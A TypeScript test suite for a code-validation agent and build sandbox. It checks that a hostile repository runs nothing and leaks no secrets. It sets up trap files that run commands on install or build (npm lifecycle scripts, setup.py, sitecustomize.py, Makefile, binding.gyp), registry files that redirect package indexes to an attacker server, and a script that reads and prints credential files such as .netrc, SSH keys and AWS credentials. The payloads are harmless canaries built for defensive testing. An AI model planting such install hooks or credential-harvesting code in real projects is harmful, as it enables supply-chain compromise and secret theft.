/** A repository full of things that run when somebody installs, builds or tests it, while its fix is validated and built. */
import { assert, assertEquals } from "@std/assert";
import { dirname, join } from "@std/path";
import type { Settings } from "../../agents/messages.ts";
import { createSubprocessRunner } from "../../agents/runner.ts";
import { createToolbox } from "../../agents/tools/toolbox.ts";
import { validatorAgent } from "../../agents/validator/agent.ts";
import { toolEnvironment } from "../../process/environment.ts";
import { cloneCheckout } from "../../repo/checkout.ts";
import { Harbour } from "../drydock/harbour.ts";
import { createNpmRegistry } from "../helpers/npm_registry.ts";
import { createPythonIndex } from "../helpers/python_index.ts";
import { createBareRepository } from "../helpers/repository.ts";
import { exists } from "../repo/hostile.ts";
import { SETTINGS } from "./sample_project.ts";

/** Every file of a repository that some program runs or obeys by itself. */
function traps(canary: string, evil: string): Record<string, string> {
  const shell = `touch ${canary}`;
  const python = `import os; os.system("${shell}")\n`;
  const node = `require("node:child_process").execSync("${shell}");\n`;
  const scripts = Object.fromEntries(
    [
      "preinstall",
      "install",
      "postinstall",
      "prepare",
      "prepublish",
      "preprepare",
      "dependencies",
      "test",
      "build",
    ]
      .map((name) => [name, shell]),
  );
  const files: Record<string, string> = {
    "package.json": JSON.stringify({
      name: "app",
      version: "1.0.0",
      scripts,
      dependencies: { trap: "1.0.0" },
    }),
    ".npmrc":
      `registry=${evil}\nscript-shell=${canary}.sh\nnode-options=--require ./trap.js\ngit=${canary}.sh\n`,
    ".yarnrc": `registry "${evil}"\nyarn-path "./trap.js"\n`,
    ".pnpmfile.cjs": node,
    "trap.js": node,
    "binding.gyp": `{"targets": [{"target_name": "x", "actions": ["<!(${shell})"]}]}`,
    "requirements.txt":
      `--index-url ${evil}\n--extra-index-url ${evil}\n--find-links ${evil}\n-e .\n./local\ntrap @ ${evil}trap.whl\nlib-a==1.0\nlib-b>=1.0\n`,
    "setup.py": python,
    "setup.cfg": "[metadata]\nname = attr: trap.name\n",
    "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "trap"\nbackend-path = ["."]\n',
    "pip.conf": `[global]\nindex-url = ${evil}\n`,
    ".pip/pip.conf": `[global]\nindex-url = ${evil}\n`,
    ".python-version": "3.12\n",
    "Makefile": `all:\n\t${shell}\n$(shell ${shell})\n`,
    ".envrc": `${shell}\n`,
    "Procfile": `web: ${shell}\n`,
    "Dockerfile": `FROM scratch\nRUN ${shell}\n`,
  };
  // Modules that Python or pip would take from the folder they run in, if they ran in it.
  for (
    const name of [
      "trap",
      "sitecustomize",
      "usercustomize",
      "pip",
      "ast",
      "sys",
      "os",
      "encodings",
      "conftest",
    ]
  ) {
    files[`${name}.py`] = python;
  }
  files["local/setup.py"] = python;
  return files;
}

/** A server that nobody may ask anything. */
function openEvil() {
  const asked: string[] = [];
  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, (request) => {
    asked.push(request.url);
    return new Response("no", { status: 404 });
  });
  return {
    // Another name than the registry's, as a host of our own network would have.
    url: `http://localhost:${server.addr.port}/`,
    asked,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

Deno.test("nothing of a repository runs or is obeyed while a fix for it is validated (promise 17)", async () => {
  const folder = await Deno.makeTempDir({ prefix: "evenkeel-hostile-" });
  try {
    const canary = join(folder, "canary");
    await using evil = openEvil();
    const files = traps(canary, evil.url);
    const scripts = {
      preinstall: `touch ${canary}`,
      install: `touch ${canary}`,
      postinstall: `touch ${canary}`,
    };
    await using registry = await createNpmRegistry([
      { name: "trap", version: "1.0.0", ...{ scripts, hasInstallScript: true } },
      { name: "leads-out", version: "1.0.0", dependencies: { x: `${evil.url}x.tgz` } },
    ]);
    await using index = await createPythonIndex([
      { name: "lib-a", version: "1.0" },
      { name: "lib-b", version: "1.0" },
      // What pip would take, and what it has to run to know what it needs.
      { name: "lib-b", version: "2.0", source: { touches: canary } },
    ]);
    await using repository = await createBareRepository(files);
    await using checkout = await cloneCheckout({
      url: repository.url,
      branch: "main",
      directory: join(folder, "checkout"),
    });
    const lock = {
      name: "app",
      version: "1.0.0",
      lockfileVersion: 3,
      packages: {
        "": { name: "app", version: "1.0.0", dependencies: { trap: "1.0.0" } },
        "node_modules/trap": { version: "1.0.0", resolved: `${evil.url}trap.tgz`, hasInstallScript: true },
      },
    };
    // Each edited file is parsed by its own program; the other traps lie about in the checkout.
    const edits: Record<string, string> = {
      ...Object.fromEntries(
        ["package.json", "trap.js", "setup.py", "ast.py"].map((path) => [path, files[path] ?? ""]),
      ),
      "package-lock.json": JSON.stringify(lock),
      "old/package.json": JSON.stringify({ name: "old", version: "1.0.0", dependencies: { trap: "1.0.0" } }),
      // npm asks every address of a lock file of the first version.
      "old/package-lock.json": JSON.stringify({
        lockfileVersion: 1,
        requires: true,
        dependencies: { trap: { version: `${evil.url}latest/meta-data` } },
      }),
      "out/package.json": JSON.stringify({
        name: "out",
        version: "1.0.0",
        dependencies: { "leads-out": "1.0.0" },
      }),
      "requirements.txt": `${files["requirements.txt"]}\n# mended\n`,
    };
    for (const [path, text] of Object.entries(edits)) {
      await Deno.mkdir(dirname(join(checkout.directory, path)), { recursive: true });
      await Deno.writeTextFile(join(checkout.directory, path), text);
    }
    const settings: Settings = { ...SETTINGS, buildCommand: "npm ci", runtime: "python" };
    const input = {
      directory: checkout.directory,
      edits: Object.entries(edits).map(([path, content]) => ({ path, content })),
      settings,
    };
    const environment = { ...toolEnvironment(), ...registry.env, ...index.env };
    const scratchRoot = join(folder, "scratch");
    const toolbox = createToolbox({ cacheHome: join(folder, "home"), scratchRoot, environment });
    const result = await createSubprocessRunner({ scratchRoot })(validatorAgent, input, { toolbox });
    assert(result.kind === "answered", JSON.stringify(result));
    const judged = Object.fromEntries(result.output.checks.map(({ name, result }) => [name, result]));
    // The checks were made, not skipped.
    assertEquals(judged["requirements requirements.txt"], "pass", JSON.stringify(result.output));
    assertEquals(judged["dependencies package.json"], "pass", JSON.stringify(result.output));
    assertEquals(await exists(canary), false);
    assertEquals(evil.asked, []);
    assertEquals(await Array.fromAsync(Deno.readDir(scratchRoot)), []);
  } finally {
    await Deno.remove(folder, { recursive: true });
  }
});

Deno.test("drydock builds and runs a repository without a credential of ours and in an environment of its own (promise 17)", async () => {
  // Names that no other test reads: this process runs them all. What is not on the list of process/environment.ts goes.
  const secrets = {
    EVENKEEL_REHEARSAL_API_KEY: "rnd_canary4711",
    EVENKEEL_REHEARSAL_GITHUB_TOKEN: "ghp_canary4711",
    EVENKEEL_REHEARSAL_DATABASE_URL: "postgres://me:canary4711@db/x",
  };
  const look = `
const fs = require("node:fs");
const own = JSON.stringify(process.env);
let files = "";
for (const name of [".netrc", ".npmrc", ".git-credentials", ".config/gh/hosts.yml", ".ssh/id_ed25519", ".aws/credentials"]) {
  try { files += fs.readFileSync(process.env.HOME + "/" + name, "utf8"); } catch {}
}
let remote = "";
try { remote = require("node:child_process").execSync("git config --get-regexp . 2>/dev/null || true").toString(); } catch {}
console.log("SEEN", own + files + remote);
`;
  await using repository = await createBareRepository({
    "look.js": look,
    "index.js": `${look}
require("node:http").createServer((_, response) => response.end("{}")).listen(Number(process.env.PORT), "0.0.0.0");
process.on("SIGTERM", () => process.exit(0));
`,
  });
  for (const [name, value] of Object.entries(secrets)) Deno.env.set(name, value);
  try {
    await using harbour = await Harbour.open();
    const berth = await harbour.create(repository, { commands: { buildCommand: "node look.js" } });
    await berth.isLive();
    const seen = (await berth.log()).filter((line) => line.startsWith("SEEN"));
    // Once in the build and once in the instance.
    assertEquals(seen.length, 2);
    for (const line of seen) {
      assertEquals(line.includes("canary4711"), false, line);
      assert(line.includes('"RENDER":"true"'), line);
      assertEquals(/"HOME":"([^"]*)"/.exec(line)?.[1] === Deno.env.get("HOME"), false);
    }
  } finally {
    for (const name of Object.keys(secrets)) Deno.env.delete(name);
  }
});
